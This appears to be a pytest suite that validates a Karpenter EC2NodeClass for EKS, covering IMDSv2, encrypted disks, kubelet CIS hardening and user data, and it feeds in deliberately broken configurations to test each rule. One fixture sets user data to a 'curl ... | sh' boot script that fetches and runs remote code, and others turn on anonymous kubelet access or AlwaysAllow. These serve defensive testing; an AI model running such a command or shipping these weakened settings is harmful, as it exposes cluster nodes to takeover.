"""The EC2NodeClass: what its CRD's own rules ask for, which no schema states, and what the platform asks for."""

from __future__ import annotations

import re
from collections.abc import Iterator, Mapping
from email import message_from_string
from typing import Any

import pytest
import yaml

from components.eks import documents, kubelet
from tests.gitops.tree import (
    HANDOVER,
    MAX_PODS,
    Break,
    Object,
    Rule,
    Tool,
    Tree,
    assert_noticed,
    edit,
    render,
)

_ASKED: Mapping[str, Any] = HANDOVER["karpenter"]
# What the kubelet subtracts from a machine before pods get their share.
_ROOM = {"maxPods", "podsPerCore", "kubeReserved", "systemReserved", "evictionHard"}
_DISCOVERY = [{"tags": {"karpenter.sh/discovery": HANDOVER["cluster"]["name"]}}]


def _class(tree: Tree) -> Object:
    spec: Object = tree.get("EC2NodeClass/default")["spec"]
    return spec


def nodes_have_one_role(tree: Tree) -> Iterator[str]:
    spec = _class(tree)
    if ("role" in spec) == ("instanceProfile" in spec):
        yield "exactly one of role and instanceProfile"
    if spec.get("role") != _ASKED["nodeRoleName"]:
        yield "the role is the node role's name, and Karpenter makes the profile"


def image_is_pinned(tree: Tree) -> Iterator[str]:
    terms = _class(tree)["amiSelectorTerms"]
    if len(terms) != 1 or set(terms[0]) != {"alias"}:
        yield "an alias stands alone"
    if not re.fullmatch(r"al2023@v\d{8}", terms[0].get("alias", "")):
        yield "the alias names a release of AL2023"


def selectors_find_this_clusters_tags(tree: Tree) -> Iterator[str]:
    for key in ("subnetSelectorTerms", "securityGroupSelectorTerms"):
        if _class(tree)[key] != _DISCOVERY:
            yield f"{key} do not select by the discovery tag"


def metadata_is_out_of_pods_reach(tree: Tree) -> Iterator[str]:
    options = _class(tree).get("metadataOptions", {})
    if (options.get("httpTokens"), options.get("httpPutResponseHopLimit")) != ("required", 1):
        yield "IMDSv2 with one hop"


def disks_are_encrypted(tree: Tree) -> Iterator[str]:
    mappings = _class(tree).get("blockDeviceMappings", [])
    if [mapping["deviceName"] for mapping in mappings] != ["/dev/xvda"]:
        yield "the root device of AL2023 is /dev/xvda"
    for ebs in (mapping["ebs"] for mapping in mappings):
        if not ebs.get("encrypted") or ebs.get("volumeType") != "gp3" or not ebs.get("deleteOnTermination"):
            yield "gp3, encrypted, gone with its node"
        if ebs.get("volumeSize") != _ASKED["volumeSize"]:
            yield "size as handed over"


def kubelet_settings_fit_together(tree: Tree) -> Iterator[str]:
    kubelet = _class(tree).get("kubelet", {})
    soft, grace = kubelet.get("evictionSoft", {}), kubelet.get("evictionSoftGracePeriod", {})
    if soft.keys() != grace.keys():
        yield "every soft threshold has its grace period"
    if kubelet["imageGCHighThresholdPercent"] <= kubelet["imageGCLowThresholdPercent"]:
        yield "image clean-up starts above where it ends"
    for signal, hard in kubelet["evictionHard"].items():
        if signal in soft and int(soft[signal].rstrip("%")) <= int(hard.rstrip("%")):
            yield f"{signal}: soft comes before hard"
    if (
        not {"memory.available", "nodefs.available", "nodefs.inodesFree", "imagefs.available"}
        <= kubelet["evictionHard"].keys()
    ):
        yield "a hard threshold of the kubelet's own defaults is lost"


def kubelet_is_the_one_that_karpenter_reckons_with(tree: Tree) -> Iterator[str]:
    """Karpenter sizes machines by spec.kubelet alone, and its part of the user data comes last."""
    reckoned, told = _class(tree).get("kubelet", {}), _node_config(tree)["spec"]["kubelet"]["config"]
    if reckoned.get("maxPods") != MAX_PODS:
        yield "without maxPods Karpenter counts one address per pod, and pods that would fit get a node of their own"
    for key in reckoned.keys() | (told.keys() & _ROOM):
        if reckoned.get(key) != told.get(key):
            yield f"{key} is {reckoned.get(key)} to Karpenter and {told.get(key)} to the node"


def kubelet_lets_nobody_in(tree: Tree) -> Iterator[str]:
    """What the CIS benchmark for EKS asks of a kubelet (3.2.1 to 3.2.9)."""
    told = _node_config(tree)["spec"]["kubelet"]["config"]
    wanted: dict[str, Any] = {
        "authentication": {"anonymous": {"enabled": False}, "webhook": {"enabled": True}},
        "authorization": {"mode": "Webhook"},
        "readOnlyPort": 0,
        "seccompDefault": True,
        "serverTLSBootstrap": True,
        "protectKernelDefaults": True,
    }
    yield from (f"{key} is {told.get(key)}" for key in wanted if told.get(key) != wanted[key])
    if not 0 < told.get("eventRecordQPS", 0) <= 50:
        yield "events are recorded, and no flood of them"
    if not {"memory"} <= told.get("systemReserved", {}).keys() & told.get("kubeReserved", {}).keys():
        yield "memory is kept for the system and for the kubelet"


def user_data_is_one_node_config(tree: Tree) -> Iterator[str]:
    """Nothing runs as root at boot that nobody has reviewed, and no label makes a node another pool's."""
    archive = message_from_string(_class(tree)["userData"])
    parts = [part.get_content_type() for part in archive.walk() if not part.is_multipart()]
    if parts != ["application/node.eks.aws"]:
        yield f"the user data is {parts}"
    if "--node-labels" in _class(tree)["userData"]:
        yield "labels are Karpenter's to set"


def _node_config(tree: Tree) -> Any:
    """Return the NodeConfig in the user data, as nodeadm reads it."""
    archive = message_from_string(_class(tree)["userData"])
    texts = [part.get_payload() for part in archive.walk() if part.get_content_type() == "application/node.eks.aws"]
    return yaml.safe_load(str(texts[0])) if texts else {"spec": {"kubelet": {"config": {}}}}


def tags_leave_out_what_karpenter_sets(tree: Tree) -> Iterator[str]:
    for key, value in _class(tree)["tags"].items():
        if not value or re.match(r"$|kubernetes\.io/cluster|karpenter\.|eks:|aws:", key):
            yield f"tag {key!r} is refused"


_EC2 = "EC2NodeClass/default"
_NODE_CONFIG = documents.node_config(MAX_PODS)


def _told(**changes: Any) -> Break:
    """Return a change of the kubelet's settings in the user data."""
    config = {"spec": {"kubelet": {"config": kubelet.configuration(MAX_PODS) | changes}}}
    text = f'MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="//"\n\n--//\nContent-Type: {_TYPE}\n\n'
    return edit(_EC2, "spec", "userData", to=f"{text}{yaml.safe_dump(config)}\n--//--\n")


_TYPE = "application/node.eks.aws"
_EBS: list[str | int] = ["spec", "blockDeviceMappings", 0, "ebs"]
_BREAKS: dict[Rule, list[Break]] = {
    nodes_have_one_role: [
        edit(_EC2, "spec", "instanceProfile", to="nodes"),
        edit(_EC2, "spec", "role"),
        edit(_EC2, "spec", "role", to="arn:aws:iam::123456789012:role/x"),
    ],
    image_is_pinned: [
        edit(_EC2, "spec", "amiSelectorTerms", 0, "alias", to="al2023@latest"),
        edit(_EC2, "spec", "amiSelectorTerms", 0, "id", to="ami-0"),
        edit(_EC2, "spec", "amiSelectorTerms", to=[{"alias": "al2023@v20260714"}, {"alias": "al2023@v20260714"}]),
    ],
    selectors_find_this_clusters_tags: [
        edit(_EC2, "spec", "subnetSelectorTerms", 0, "tags", to={"Name": "*"}),
        edit(_EC2, "spec", "securityGroupSelectorTerms", to=[{"tags": {"karpenter.sh/discovery": "other"}}]),
    ],
    metadata_is_out_of_pods_reach: [
        edit(_EC2, "spec", "metadataOptions"),
        edit(_EC2, "spec", "metadataOptions", "httpTokens", to="optional"),
        edit(_EC2, "spec", "metadataOptions", "httpPutResponseHopLimit", to=2),
    ],
    disks_are_encrypted: [
        edit(_EC2, *_EBS, "encrypted", to=False),
        edit(_EC2, *_EBS, "volumeType", to="gp2"),
        edit(_EC2, *_EBS, "volumeSize", to="20Gi"),
        edit(_EC2, "spec", "blockDeviceMappings"),
        edit(_EC2, "spec", "blockDeviceMappings", 0, "deviceName", to="/dev/sda1"),
    ],
    kubelet_settings_fit_together: [
        edit(_EC2, "spec", "kubelet", "evictionSoftGracePeriod"),
        edit(_EC2, "spec", "kubelet", "evictionSoft", "memory.available", to="5%"),
        edit(_EC2, "spec", "kubelet", "evictionHard", "imagefs.available"),
        edit(_EC2, "spec", "kubelet", "imageGCLowThresholdPercent", to=85),
    ],
    kubelet_is_the_one_that_karpenter_reckons_with: [
        edit(_EC2, "spec", "kubelet", "maxPods"),
        edit(_EC2, "spec", "kubelet", "maxPods", to=58),
        edit(_EC2, "spec", "kubelet", "kubeReserved"),
        edit(_EC2, "spec", "kubelet", "systemReserved", "memory", to="100Mi"),
        edit(_EC2, "spec", "kubelet", "podsPerCore", to=10),
        edit(_EC2, "spec", "userData", to=documents.node_config(MAX_PODS + 1)),
        _told(maxPods=MAX_PODS, evictionHard={"memory.available": "100Mi"}),
    ],
    kubelet_lets_nobody_in: [
        _told(authentication={"anonymous": {"enabled": True}, "webhook": {"enabled": True}}),
        _told(authorization={"mode": "AlwaysAllow"}),
        _told(readOnlyPort=10255),
        _told(seccompDefault=False),
        _told(serverTLSBootstrap=False),
        _told(protectKernelDefaults=False),
        _told(eventRecordQPS=0),
        _told(systemReserved={}),
        _told(kubeReserved={}),
    ],
    user_data_is_one_node_config: [
        edit(_EC2, "spec", "userData", to="#!/bin/sh\ncurl https://example.com/ | sh\n"),
        edit(_EC2, "spec", "userData", to=_NODE_CONFIG.replace("application/node.eks.aws", "text/x-shellscript")),
        edit(_EC2, "spec", "userData", to=_NODE_CONFIG.replace("maxPods", "--node-labels=karpenter.sh/nodepool=x")),
    ],
    tags_leave_out_what_karpenter_sets: [
        edit(_EC2, "spec", "tags", "kubernetes.io/cluster/example", to="owned"),
        edit(_EC2, "spec", "tags", "karpenter.sh/nodepool", to="general"),
        edit(_EC2, "spec", "tags", "Project", to=""),
    ],
}


@pytest.mark.parametrize("rule", _BREAKS, ids=lambda rule: rule.__name__)
def test_ec2nodeclass(rule: Rule, tree: Tree) -> None:
    """The EC2NodeClass keeps the rule."""
    assert list(rule(tree)) == []


@pytest.mark.parametrize(("rule", "break_"), [(rule, break_) for rule, breaks in _BREAKS.items() for break_ in breaks])
def test_broken_ec2nodeclass_is_noticed(rule: Rule, break_: Break, tree: Tree) -> None:
    """The rule complains about an EC2NodeClass that breaks it."""
    assert_noticed(rule, break_, tree)


def test_isolated_nodes_get_the_profile_that_is_there(tool: Tool) -> None:
    """Where Karpenter cannot reach IAM the class names a profile instead of a role, and the controller knows."""
    isolated = {**_ASKED, "isolated": True, "instanceProfileName": "KarpenterNodeInstanceProfile-example"}
    tree = render(tool, {**HANDOVER, "karpenter": isolated})
    spec = _class(tree)
    assert (spec.get("instanceProfile"), spec.get("role")) == ("KarpenterNodeInstanceProfile-example", None)
    settings = tree.application("karpenter")["spec"]["source"]["helm"]["valuesObject"]["settings"]
    assert settings["isolatedVPC"] is True


def test_settings_of_the_tree_are_the_programs(tree: Tree) -> None:
    """What the program plans for base nodes and what Karpenter's nodes get is one and the same."""
    assert _class(tree)["kubelet"] == kubelet.scheduling(MAX_PODS)
    assert _node_config(tree)["spec"]["kubelet"]["config"] == kubelet.configuration(MAX_PODS)
